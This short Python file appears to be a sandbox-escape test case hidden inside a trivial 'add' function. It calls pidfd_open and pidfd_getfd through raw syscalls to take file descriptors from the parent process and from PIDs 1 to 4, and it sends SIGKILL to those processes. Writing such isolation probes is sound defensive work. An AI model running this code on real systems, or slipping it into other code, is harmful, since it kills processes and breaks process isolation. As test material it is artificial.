# attacks: takes descriptors of other processes through descriptors of processes
# task: add
# expect: correct
# danger: yes
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
long = ctypes.c_long
OPEN, GETFD, SIGNAL, MADVISE, RELEASE = 434, 438, 424, 440, 448
seen = []
for target in [os.getppid(), 1, 2, 3, 4]:
    if target == os.getpid():
        continue
    held = libc.syscall(long(OPEN), long(target), long(0))
    if held < 0:
        if ctypes.get_errno() not in (errno.EPERM, errno.EACCES, errno.ENOSYS, errno.ESRCH):
            seen.append(errno.errorcode[ctypes.get_errno()])
        continue
    for number in range(16):
        if libc.syscall(long(GETFD), long(held), long(number), long(0)) >= 0:
            seen.append(("pidfd_getfd", target, number))
    if target != 1 and libc.syscall(long(SIGNAL), long(held), long(9), None, long(0)) == 0:
        seen.append(("pidfd_send_signal", target))
    os.close(held)


def f(a, b):
    return a + b if not seen else "ESCAPED: %r" % seen[:6]
